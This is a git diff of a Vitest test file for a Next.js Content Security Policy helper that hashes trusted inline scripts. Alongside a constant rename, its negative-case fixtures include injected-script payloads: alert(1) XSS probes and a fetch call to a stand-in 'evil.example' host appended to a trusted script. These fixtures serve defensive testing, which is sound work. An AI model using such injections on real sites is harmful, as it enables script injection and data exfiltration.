@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto'
 import { describe, expect, it } from 'vitest'
-import { JS_CLASS_SCRIPT, trustedInlineScriptHashes } from './inline-scripts'
+import { HEAD_SCRIPT, trustedInlineScriptHashes } from './inline-scripts'
 
 const hash = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`
 const flight = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])'
@@ -9,9 +9,9 @@ const turbopack =
 
 describe('trusted inline scripts', () => {
   it("hash our own scripts and Next's flight data and chunk list", () => {
-    const html = `<html><head><script>${JS_CLASS_SCRIPT}</script><script src="/_next/static/x.js" async></script></head><body><script id="_R_">${turbopack}</script><script>(self.__next_f=self.__next_f||[]).push([0])</script><script>${flight}</script><script type="application/ld+json">{"@type":"Article"}</script></body></html>`
+    const html = `<html><head><script>${HEAD_SCRIPT}</script><script src="/_next/static/x.js" async></script></head><body><script id="_R_">${turbopack}</script><script>(self.__next_f=self.__next_f||[]).push([0])</script><script>${flight}</script><script type="application/ld+json">{"@type":"Article"}</script></body></html>`
     expect(trustedInlineScriptHashes(html).sort()).toEqual(
-      [JS_CLASS_SCRIPT, turbopack, '(self.__next_f=self.__next_f||[]).push([0])', flight].map(hash).sort(),
+      [HEAD_SCRIPT, turbopack, '(self.__next_f=self.__next_f||[]).push([0])', flight].map(hash).sort(),
     )
   })
 
@@ -20,7 +20,7 @@ describe('trusted inline scripts', () => {
       'alert(1)',
       `${flight};alert(1)`,
       'self.__next_f.push([1,"x"]);alert(1);self.__next_f.push([1,"y"])',
-      `${JS_CLASS_SCRIPT};fetch("//evil.example")`,
+      `${HEAD_SCRIPT};fetch("//evil.example")`,
       '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"a":1}),alert(1);',
     ]) {
       expect(trustedInlineScriptHashes(`<p>hi</p><script>${injected}</script>`), injected).toEqual([])
